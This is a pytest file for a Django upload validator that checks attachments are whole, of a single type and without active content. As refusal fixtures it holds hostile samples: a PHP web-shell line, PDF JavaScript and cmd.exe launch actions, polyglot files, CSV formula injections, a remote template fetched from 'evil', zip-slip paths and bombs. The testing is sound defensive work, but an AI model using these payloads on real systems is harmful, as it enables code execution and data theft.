"""What is taken as a file: whole files of one kind, by their content. What hides, acts, or is two things is refused."""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path, PurePath

import pytest
from django.utils import translation
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

import sample_files
from sample_files import SOUND, ofd, office, package, packed, pdf, picture
from sanchuang.core.attachments.content import TYPES, accepted, examine, images, packages, type_of
from sanchuang.core.attachments.content import pdf as pdf_check
from sanchuang.core.attachments.names import LONGEST, cleaned
from sanchuang.values import Malformed

NAMED = {PurePath(name).suffix: content for name, content in SOUND.items()}
HTML = b"<html><script>alert(document.cookie)</script></html>"
JAR = package({"META-INF/MANIFEST.MF": "Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"})


@pytest.fixture(autouse=True)
def _english() -> Iterator[None]:
    """Refusals in the language of the code, whether or not its translations are compiled."""
    with translation.override("en"):
        yield


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("content") / "file"


def refusal(place: Path, name: str, content: bytes) -> str:
    """Why the file is not taken; fails when it is."""
    place.write_bytes(content)
    with pytest.raises(Malformed) as caught:
        examine(name, place)
    assert caught.value.message
    assert caught.value.remedy
    return caught.value.message


@pytest.mark.parametrize("name", SOUND)
def test_a_sound_file_is_taken_as_what_its_ending_says(place: Path, name: str) -> None:
    place.write_bytes(SOUND[name])
    assert examine(name.upper(), place) is type_of(name)


def test_every_type_of_the_table_has_a_sound_example() -> None:
    assert {ending for kind in TYPES for ending in kind.endings} == set(NAMED) == set(accepted())


def test_documents_of_other_programs_are_taken(place: Path) -> None:
    """What openpyxl, Pillow and WeasyPrint write stands for what users bring; a link may name JavaScript."""
    from openpyxl import Workbook
    from weasyprint import HTML as PAGE

    book = Workbook()
    book.active["A1"] = 1
    book.save(place)
    assert examine("表.xlsx", place).label == "Excel"
    PAGE(string='<p>好</p><a href="https://example.com/JavaScript">x</a>').write_pdf(place)
    assert examine("页.pdf", place).label == "PDF"
    Image.new("RGB", (30, 30)).save(place, "PDF")
    assert examine("扫描.pdf", place).label == "PDF"


@pytest.mark.parametrize(
    ("name", "content", "found"),
    [
        ("程序.pdf", b"MZ\x90\0", "a program for Windows"),
        ("照片.png", picture("JPEG"), "JPEG"),
        ("照片.jpg", picture("GIF"), "GIF"),
        ("合同.pdf", HTML, "something else"),
        ("合同.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "an old or encrypted document of Office"),
        ("名单.csv", office("xlsx"), "a ZIP archive or a document of Office"),
        ("备注.txt", pdf(), "PDF"),
        (" 照片.webp", b"RIFF\0\0\0\0WAVE", "something else"),
    ],
)
def test_the_ending_must_fit_the_content(place: Path, name: str, content: bytes, found: str) -> None:
    assert refusal(place, name, content).endswith(f"its content is {found}")


@pytest.mark.parametrize("name", ["x.exe", "执照.pdf.exe", "x", "x.html", "x.svg", "x.docm", ".pdf", "x.zip"])
def test_other_endings_are_not_taken(place: Path, name: str) -> None:
    assert refusal(place, name, pdf()).startswith("Files with this ending are not taken")


@pytest.mark.parametrize("ending", accepted())
def test_an_empty_file_is_told(place: Path, ending: str) -> None:
    assert refusal(place, f"x{ending}", b"") == "The file is empty"


BINARY = [name for name in SOUND if type_of(name).family != "text"]  # type: ignore[union-attr]


@given(name=st.sampled_from(BINARY), share=st.floats(0, 1, exclude_max=True))
def test_a_file_that_was_cut_off_is_never_taken(place: Path, name: str, share: float) -> None:
    whole = SOUND[name].rstrip(b"\n")
    if name != "两幅.jpg":  # the first of two pictures is whole by itself
        refusal(place, name, whole[: int(len(whole) * share)])


@given(name=st.sampled_from(BINARY), tail=st.binary(min_size=1, max_size=200).filter(bytes.strip))
def test_nothing_may_stand_behind_the_end(place: Path, name: str, tail: bytes) -> None:
    refusal(place, name, SOUND[name] + tail)


@given(name=st.sampled_from(BINARY), head=st.binary(min_size=1, max_size=200))
def test_nothing_may_stand_before_the_beginning(place: Path, name: str, head: bytes) -> None:
    refusal(place, name, head + SOUND[name])


POLYGLOTS = {
    "JPEG that is a JAR (as GIFAR)": ("a.jpg", picture("JPEG") + JAR),
    "PNG with a ZIP behind it": ("a.png", picture() + JAR),
    "WebP with a ZIP behind it": ("a.webp", picture("WEBP") + JAR),
    "PDF with a ZIP behind it": ("a.pdf", pdf() + JAR),
    "PDF with a ZIP inside, its end in the archive's comment": (
        "a.pdf",
        pdf(b"<< >>\nstream\n" + JAR + b"\nendstream"),
    ),
    "PDF with a RAR inside": ("a.pdf", pdf(b"<< >>\nstream\nRar!\x1a\x07\x01\0\nendstream")),
    "PDF that a browser reads as HTML": ("a.pdf", pdf(between=HTML + b"\n")),
    "PDF with PHP": ("a.pdf", pdf(between=b"%<?php system($_GET['c']); ?>\n")),
    "JPEG with HTML in its comment": ("a.jpg", picture("JPEG", comment=HTML)),
    "JPEG with a PDF in its comment": ("a.jpg", picture("JPEG", comment=pdf())),
    "JPEG with a ZIP in its comment": ("a.jpg", picture("JPEG", comment=JAR)),
    "Word that is a JAR": ("a.docx", office(**{"META-INF__MANIFEST.MF": "Main-Class: X"})),
    "Word with a program": ("a.docx", office(**{"word__media__x.exe": b"MZ"})),
    "OFD with a web page": ("a.ofd", ofd(**{"x.html": HTML})),
    "text that a reader opens as PDF": ("a.txt", b"hello\n" + pdf().replace(b"\xe2\xe3\xcf\xd3", b"")),
    "text that a browser reads as HTML": ("a.txt", b"\n <!DOCTYPE html>" + HTML),
    "CSV that is HTML": ("a.csv", HTML),
}


@pytest.mark.parametrize("case", POLYGLOTS)
def test_a_file_that_is_two_things_is_refused(place: Path, case: str) -> None:
    refusal(place, *POLYGLOTS[case])


def test_a_png_with_a_page_in_its_text_is_refused(place: Path) -> None:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", HTML.decode())
    assert "a web page or a program" in refusal(place, "a.png", picture(pnginfo=info))


def test_a_pdf_that_is_a_tar_is_refused(place: Path) -> None:
    """The name of its first member is the head of the PDF, and both programs are content."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        info = tarfile.TarInfo("%PDF-1.4\n%")
        body = pdf()
        info.size = len(body)
        tar.addfile(info, io.BytesIO(body))
    archive = out.getvalue()[: 512 + len(body)]
    table = 512 + int(body.split(b"startxref\n")[1].split()[0])
    refusal(place, "a.pdf", archive.rpartition(b"startxref")[0] + b"startxref\n%d\n%%%%EOF\n" % table)


ACTIVE = {
    "a script": b"<< /S /JavaScript /JS (app.alert(1)) >>",
    "a script, its name in codes": b"<< /S/J#61vaScript /JS (app.alert(1)) >>",
    "a script behind a comment": b"<< /S %here\n/JavaScript >>",
    "the name by itself": b"/JavaScript",
    "a program": b"<< /S /Launch /F (cmd.exe) >>",
}


@pytest.mark.parametrize("case", ACTIVE)
def test_a_pdf_that_acts_when_opened_is_refused(place: Path, case: str) -> None:
    """Plainly, and in a compressed stream of objects."""
    for written in (ACTIVE[case], packed(b" " + ACTIVE[case])):
        if case == "the name by itself" and written is not ACTIVE[case]:
            continue  # in a stream, objects have no "obj" in front
        said = refusal(place, "a.pdf", pdf(written))
        assert said.endswith("when it is opened")
        assert ("program" in said) == (case == "a program")


def test_a_pdf_that_cannot_be_examined_is_refused(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert "encrypted" in refusal(place, "a.pdf", pdf(b"<< /Filter /Standard >>", trailer=b"/Encrypt 4 0 R "))
    damaged = packed(b"<< >>").replace(b"stream\r\n\x78\x9c", b"stream\r\n\x78\x9d")
    assert "broken" in refusal(place, "a.pdf", pdf(damaged))
    assert "broken" in refusal(place, "a.pdf", pdf(b"<< /Type /ObjStm >>"))
    monkeypatch.setattr(pdf_check, "MOST_INFLATED", 100_000)
    assert "unpacks" in refusal(place, "a.pdf", pdf(packed(bytes(200_000))))


def test_a_signed_pdf_with_its_revisions_is_taken(place: Path) -> None:
    """Each revision is appended, with an end of its own."""
    first = pdf()
    table = len(first)
    second = first + b"xref\n0 0\ntrailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % table
    place.write_bytes(second)
    assert examine("a.pdf", place).label == "PDF"


def test_a_pdf_whose_end_leads_nowhere_is_broken(place: Path) -> None:
    assert "broken" in refusal(place, "a.pdf", pdf().replace(b"startxref\n", b"startxref\n9"))
    assert "broken" in refusal(place, "a.pdf", b"%PDF-9.9 \n" + pdf()[9:])


@pytest.mark.parametrize(("form", "ending"), [("PNG", ".png"), ("JPEG", ".jpg"), ("WEBP", ".webp")])
def test_a_picture_that_would_fill_the_memory_is_refused(
    place: Path, form: str, ending: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """By the size that its head tells, before a point is decoded."""
    monkeypatch.setattr(images, "MOST_PIXELS", 1000)
    monkeypatch.setattr(images, "_decode", lambda *_: pytest.fail("was decoded"))
    for options in ({}, {"lossless": True}, {"exif": b"Exif\0\0II*\0\x08\0\0\0\0\0"}):
        if form == "WEBP" or not options:
            assert "40 × 30" in refusal(place, f"a{ending}", picture(form, **options))


@pytest.mark.parametrize("form", ["PNG", "WEBP"])
def test_a_moving_picture_is_refused(place: Path, form: str) -> None:
    frames = [Image.new("RGB", (9, 9), colour) for colour in ("red", "blue")]
    out = io.BytesIO()
    frames[0].save(out, form, save_all=True, append_images=frames[1:])
    assert refusal(place, f"a.{form.lower()}", out.getvalue()) == "The picture moves"


def test_a_png_that_cannot_be_drawn_is_broken(place: Path) -> None:
    """Every chunk is right, and so is its sum, but no picture can be made of it. WeasyPrint lets Pillow overlook that."""
    import weasyprint  # noqa: F401

    whole = picture()
    start = whole.index(b"IDAT")
    (length,) = struct.unpack(">I", whole[start - 4 : start])
    body = bytes(length)
    chunk = struct.pack(">I", len(body)) + b"IDAT" + body + struct.pack(">I", zlib.crc32(b"IDAT" + body))
    short = whole[: start - 4] + chunk + whole[start + 8 + length :]
    assert "broken" in refusal(place, "a.png", short)
    assert "broken" in refusal(place, "a.png", whole.replace(b"IDAT", b"IDAt"))


def renamed(old: str, new: str) -> bytes:
    """A document of Office of which one part has another name of the same length, in both places."""
    return office(**{old: "x"}).replace(old.encode(), new.encode())


PACKAGES = {
    "macros": (office(**{"word__vbaProject.bin": b"x"}), "macros"),
    "macros by type": (
        package({"[Content_Types].xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}),
        "macros",
    ),
    "macros by type in UTF-16": (
        package(
            {"[Content_Types].xml": "application/vnd.ms-word.document.macroEnabled.main+xml".encode("utf-16")}
        ),
        "macros",
    ),
    "macros of Excel 4": (office(**{"xl__macrosheets__sheet1.xml": "x"}), "macros"),
    "controls": (office(**{"word__activeX__activeX1.bin": "x"}), "macros"),
    "another document": (office("xlsx"), "not Word"),
    "no types": (package({"word/document.xml": "x"}), "broken"),
    "a path upwards": (renamed("aaaaaaaaa", "../../etc"), "points outside"),
    "an absolute path": (renamed("aaaa", "/etc"), "points outside"),
    "a path of Windows": (renamed("aaaaaa", "C:\\boo"), "points outside"),
    "two parts of one name": (renamed("word/documenT.xml", "word/document.xml"), "broken"),
    "a template from elsewhere": (
        office(
            **{
                "word___rels__settings.xml.rels": '<Relationship Type="http://x/attachedTemplate" '
                'Target="http://evil/x.dotm" TargetMode="External"/>'
            }
        ),
        "fetches its template",
    ),
}


@pytest.mark.parametrize("case", PACKAGES)
def test_a_document_of_office_is_parts_and_no_programs(place: Path, case: str) -> None:
    content, said = PACKAGES[case]
    assert said in refusal(place, "a.docx", content)


def test_bytes_between_the_parts_are_refused(place: Path) -> None:
    """Where no directory leads, nobody looks."""
    whole = office()
    directory = whole.index(b"PK\x01\x02")
    end = whole.rindex(b"PK\x05\x06")
    hidden = whole[:directory] + b"hidden" + whole[directory:end]
    hidden += whole[end : end + 16] + struct.pack("<I", directory + 6) + whole[end + 20 :]
    assert zipfile.ZipFile(io.BytesIO(hidden)).testzip() is None
    assert "broken" in refusal(place, "a.docx", hidden)


def test_a_comment_of_the_archive_is_refused(place: Path) -> None:
    out = io.BytesIO(office())
    with zipfile.ZipFile(out, "a") as made:
        made.comment = b"<script>"
    assert "stand behind its end" in refusal(place, "a.docx", out.getvalue())


def test_a_part_that_is_not_what_the_directory_says_is_refused(place: Path) -> None:
    whole = office(**{"word__x": "x"})
    assert "broken" in refusal(place, "a.docx", whole.replace(b"word/x", b"word/y", 1))
    start = whole.index(b"_rels/.rels") + len("_rels/.rels")
    assert "broken" in refusal(place, "a.docx", whole[:start] + b"\xff" + whole[start + 1 :])


def test_an_encrypted_part_and_a_link_are_refused(place: Path) -> None:
    whole = bytearray(office())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        whole[whole.index(mark) + offset] |= 1
    assert "encrypted" in refusal(place, "a.docx", bytes(whole))
    out = io.BytesIO(office())
    with zipfile.ZipFile(out, "a") as made:
        link = zipfile.ZipInfo("word/link")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    assert "points outside" in refusal(place, "a.docx", out.getvalue())


def test_a_bomb_is_refused_by_what_it_says_and_by_what_it_is(
    place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(packages, "MOST_UNPACKED", 100_000)
    bomb = office(**{"word__x": bytes(200_000)})
    assert "unpacks" in refusal(place, "a.docx", bomb)
    lying = bomb.replace(struct.pack("<I", 200_000), struct.pack("<I", 2_000))
    assert "broken" in refusal(place, "a.docx", lying)
    monkeypatch.setattr(packages, "MOST_PARTS", 2)
    assert "unpacks" in refusal(place, "a.docx", office())


def test_parts_with_their_sizes_behind_them_are_taken(place: Path) -> None:
    """As programs write that do not know a part's size before it ends."""

    class Pipe(io.RawIOBase):
        def __init__(self) -> None:
            self.out = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, data: bytes) -> int:  # type: ignore[override]
            self.out += data
            return len(data)

    pipe = Pipe()
    with (
        zipfile.ZipFile(io.BytesIO(office())) as source,
        zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as made,
    ):
        for name in source.namelist():
            made.writestr(name, source.read(name))
    place.write_bytes(pipe.out)
    assert examine("a.docx", place).label == "Word"


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"a,b\n1,\0\n", "more than letters"),
        ("名称".encode("utf-16"), "more than letters"),
        (b"\xff\xff\xff", "more than letters"),
        (b'a,"b\nc', "cannot be read as CSV"),
        (b'a,=HYPERLINK("http://x")', "holds a formula"),
        (b"a,=cmd|'/C calc'!A0", "holds a formula"),
        (b"a\nb, @SUM(1)", "Row 2 of the CSV holds a formula"),
        (b"a,+webservice(x)", "holds a formula"),
    ],
)
def test_a_table_is_letters_and_values(place: Path, content: bytes, said: str) -> None:
    assert said in refusal(place, "a.csv", content)


@given(st.lists(st.lists(st.text('甲乙a1,"\n -（', max_size=9), min_size=1, max_size=4), max_size=5))
def test_every_table_without_formulas_is_taken(place: Path, rows: list[list[str]]) -> None:
    import csv

    out = io.StringIO()
    csv.writer(out).writerows([["name"], *rows])
    for encoding in ("utf-8", "utf-8-sig", "gb18030"):
        place.write_bytes(out.getvalue().encode(encoding))
        assert examine("表.csv", place).label == "CSV"


@given(st.text(max_size=300))
def test_a_cleaned_name_misleads_nobody(name: str) -> None:
    """No folder, no invisible letter, no direction turned; cleaning it again changes nothing."""
    clean = cleaned(name)
    assert clean == cleaned(clean)
    assert len(clean) <= LONGEST
    assert not set(clean) & set('/\\<>:"|?*\0\n\r\u202e\u200b')
    assert clean == clean.strip(". ")


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("..\\..\\etc\\执照.pdf", "执照.pdf"),
        ("/etc/passwd/a.pdf", "a.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
        ("  a \t b .pdf. ", "a b .pdf"),
        ("x" * 300 + ".pdf", "x" * 196 + ".pdf"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie_ x.pdf"),
        ("..", ""),
    ],
)
def test_names_are_cleaned(name: str, clean: str) -> None:
    assert cleaned(name) == clean


def test_the_samples_are_small() -> None:
    """So that a property may try many."""
    assert max(map(len, sample_files.SOUND.values())) < 20_000
